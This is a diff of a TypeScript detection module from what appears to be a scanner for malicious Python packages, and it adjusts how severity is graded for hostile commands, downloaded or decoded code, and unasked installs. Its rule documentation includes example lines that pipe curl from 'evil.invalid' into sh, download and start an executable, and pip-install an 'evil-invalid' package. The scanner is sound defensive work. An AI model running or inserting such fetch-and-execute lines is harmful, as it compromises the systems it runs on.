@@ -1,10 +1,28 @@
 import { WHEN, isUnasked, type Combination } from './combination.js';
-import { commandTraits } from './commands.js';
+import type { Severity } from '../model/finding.js';
+import { commandTraits, type CommandTrait } from './commands.js';
+import type { Sighting } from './machine-parts.js';
 import type { Label } from './value.js';
 
 /** Nothing from the caller, a file or a setting was mixed in: what happens is fixed in the source. */
 function isPure(labels: ReadonlySet<Label>): boolean {
   return !['parameter', 'file', 'environment', 'process-output'].some((label) => labels.has(label as Label));
+}
+
+const HOSTILE = ['fetches-and-runs', 'encoded', 'reverse-shell', 'persists', 'sends', 'tampers'] as const;
+
+/** At least part of the command or path is literal. */
+function namesSomething(text: string | undefined): boolean {
+  return (text ?? '').replaceAll('\uFFFC', '').replace(/[\s./\\]/g, '').length >= 3;
+}
+
+/** How severe a hostile command is that somebody has to call. */
+function whenCalled(traits: ReadonlySet<CommandTrait>, { host, labels }: Sighting): Severity {
+  if (!isPure(labels)) return 'LOW';
+  if (host !== undefined && (traits.has('sends') || (traits.has('hidden') && traits.size > 1)))
+    return 'CRITICAL';
+  if (traits.has('reverse-shell') || traits.has('encoded')) return 'HIGH';
+  return host !== undefined && traits.has('fetches-and-runs') ? 'MEDIUM' : 'LOW';
 }
 
 /** Code that comes from elsewhere than the file one reads. */
@@ -49,11 +67,12 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       example: 'urlretrieve("https://evil.invalid/a.exe", path); os.startfile(path)',
       technique: 'T1105',
     },
-    judge: ({ behaviour, labels, reach, host }) => {
+    judge: ({ behaviour, labels, reach, host, text }) => {
       if ((behaviour !== 'starts-process' && behaviour !== 'loads-native') || !labels.has('network'))
         return undefined;
       if (isUnasked(reach)) return 'CRITICAL';
-      return host !== undefined && isPure(labels) ? 'HIGH' : 'LOW';
+      const isFixed = host !== undefined && isPure(labels);
+      return isFixed && namesSomething(text) ? 'CRITICAL' : 'LOW';
     },
     message: ({ name, reach }) => `${name} starts something that was downloaded ${WHEN[reach]}`,
   },
@@ -70,7 +89,7 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       if ((behaviour !== 'starts-process' && behaviour !== 'loads-native') || !labels.has('decoded'))
         return undefined;
       if (labels.has('parameter') || labels.has('process-output')) return undefined;
-      return isUnasked(reach) ? 'CRITICAL' : 'LOW';
+      return isUnasked(reach) ? 'CRITICAL' : isPure(labels) ? 'HIGH' : 'LOW';
     },
     message: ({ name, reach }) => `${name} starts something that was decoded ${WHEN[reach]}`,
   },
@@ -83,18 +102,48 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       example: 'os.system("curl https://evil.invalid/x | sh")',
       technique: 'T1059',
     },
-    judge: ({ behaviour, reach, text }) => {
+    judge: (sighting) => {
+      const { behaviour, reach, text } = sighting;
       if (behaviour !== 'starts-process' || text === undefined) return undefined;
       const traits = commandTraits(text);
-      const isHostile = (
-        ['fetches-and-runs', 'encoded', 'reverse-shell', 'persists', 'sends', 'tampers'] as const
-      ).some((trait) => traits.has(trait));
-      if (isHostile) return isUnasked(reach) ? 'CRITICAL' : traits.has('reverse-shell') ? 'MEDIUM' : 'LOW';
+      if (HOSTILE.some((trait) => traits.has(trait)))
+        return isUnasked(reach) ? 'CRITICAL' : whenCalled(traits, sighting);
+      if (traits.has('fetches') && traits.has('hidden'))
+        return isUnasked(reach) ? 'CRITICAL' : whenCalled(traits, sighting);
       if (!isUnasked(reach)) return undefined;
-      if (traits.has('fetches')) return traits.has('hidden') ? 'CRITICAL' : 'MEDIUM';
-      return traits.has('hidden') ? 'MEDIUM' : undefined;
+      return traits.has('fetches') || traits.has('hidden') || traits.has('shows-off') ? 'MEDIUM' : undefined;
     },
     message: ({ name, reach, text }) =>
       `${name} ${[...commandTraits(text ?? '')].join(', ').replaceAll('-', ' ')} ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'computed-code-executed',
+      title: 'Runs code in setup.py that cannot be read from it',
+      why: 'Build scripts run version files and templates; text that is computed from nothing readable is how payloads are hidden.',
+      remedy: 'Prefer a wheel, or a version whose setup.py says what it runs.',
+      example: 'eval(compile(weave(numbers), "x", "exec"))',
+      technique: 'T1027',
+    },
+    judge: ({ behaviour, reach, labels, text }) =>
+      behaviour === 'runs-code' && reach === 'install' && labels.size === 0 && !namesSomething(text)
+        ? 'MEDIUM'
+        : undefined,
+    message: ({ name, reach }) => `${name} runs text that is computed ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'packages-installed-unasked',
+      title: 'Installs other packages by itself',
+      why: 'Packages that are installed from inside another one pass no resolver, no lock file and no check.',
+      remedy: 'Ask the authors to declare the dependency.',
+      example: 'subprocess.run([sys.executable, "-m", "pip", "install", "evil-invalid"])',
+      technique: 'T1195.001',
+    },
+    judge: ({ behaviour, reach, text }) =>
+      behaviour === 'starts-process' && isUnasked(reach) && commandTraits(text ?? '').has('installs-packages')
+        ? 'MEDIUM'
+        : undefined,
+    message: ({ name, reach }) => `${name} installs packages ${WHEN[reach]}`,
   },
 ];
